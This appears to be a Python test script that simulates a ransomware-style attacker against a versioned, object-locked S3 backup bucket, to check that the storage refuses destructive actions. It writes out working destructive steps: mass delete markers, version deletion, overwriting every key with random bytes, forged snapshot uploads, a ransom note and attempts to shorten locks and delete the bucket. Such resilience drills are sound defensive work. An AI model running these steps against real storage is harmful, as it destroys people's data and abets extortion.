#!/usr/bin/env python3
"""The attack drill's attacker: everything someone holding coffer's target credentials
(the daemon's host) can try against the bucket, with boto3 and none of coffer's code.

  attacker.py BUCKET PREFIX JOB

In order: place a delete marker on every key; try to delete every version (must be
refused); overwrite every key with garbage; upload forged snapshot records (a genuine
record replayed under a new id, a record with one bit flipped, and random bytes); drop
a ransom note; try to shorten every lock (must be refused); try to delete the bucket
(must be refused). Prints one JSON object counting what the server allowed and refused.

Credentials and endpoint come from the standard AWS environment variables.
"""
import datetime
import json
import os
import sys

import boto3
from botocore.exceptions import ClientError


def main():
    bucket, prefix, job = sys.argv[1:4]
    prefix = prefix.rstrip("/") + "/"
    s3 = boto3.client("s3", endpoint_url=os.environ["AWS_ENDPOINT_URL"],
                      region_name=os.environ.get("AWS_REGION", "us-east-1"))
    original = []
    for page in s3.get_paginator("list_object_versions").paginate(Bucket=bucket, Prefix=prefix):
        original += [(v["Key"], v["VersionId"]) for v in page.get("Versions", [])]
    keys = sorted({k for k, _ in original})
    result = {"keys": len(keys), "versions": len(original), "delete_markers": 0, "deleted": 0,
              "delete_refused": 0, "overwritten": 0, "forged": [], "shortened": 0, "shorten_refused": 0,
              "bucket_deleted": False}

    for key in keys:
        s3.delete_object(Bucket=bucket, Key=key)
        result["delete_markers"] += 1
    for key, version in original:
        try:
            s3.delete_object(Bucket=bucket, Key=key, VersionId=version)
            result["deleted"] += 1
        except ClientError:
            result["delete_refused"] += 1
    for key in keys:
        s3.put_object(Bucket=bucket, Key=key, Body=os.urandom(4096))
        result["overwritten"] += 1

    # Forged snapshot records, made from a genuine one (read by its original version).
    record_key, record_version = next((k, v) for k, v in original if k.startswith(f"{prefix}snapshots/{job}/"))
    genuine = s3.get_object(Bucket=bucket, Key=record_key, VersionId=record_version)["Body"].read()
    flipped = bytearray(genuine)
    flipped[len(flipped) // 2] ^= 1
    for name, body in [("replayed", genuine), ("flipped", bytes(flipped)), ("random", os.urandom(len(genuine)))]:
        key = f"{prefix}snapshots/{job}/{os.urandom(8).hex()}"
        s3.put_object(Bucket=bucket, Key=key, Body=body)
        result["forged"].append({"how": name, "key": key[len(prefix):]})
    s3.put_object(Bucket=bucket, Key=f"{prefix}README-RESTORE-YOUR-FILES.txt", Body=b"pay us\n")

    soon = datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(hours=1)
    for key, version in original:
        try:
            s3.put_object_retention(Bucket=bucket, Key=key, VersionId=version,
                                    Retention={"Mode": "COMPLIANCE", "RetainUntilDate": soon})
            result["shortened"] += 1
        except ClientError:
            result["shorten_refused"] += 1
    try:
        s3.delete_bucket(Bucket=bucket)
        result["bucket_deleted"] = True
    except ClientError as e:
        result["bucket_delete_error"] = e.response["Error"]["Code"]
    print(json.dumps(result))


if __name__ == "__main__":
    main()
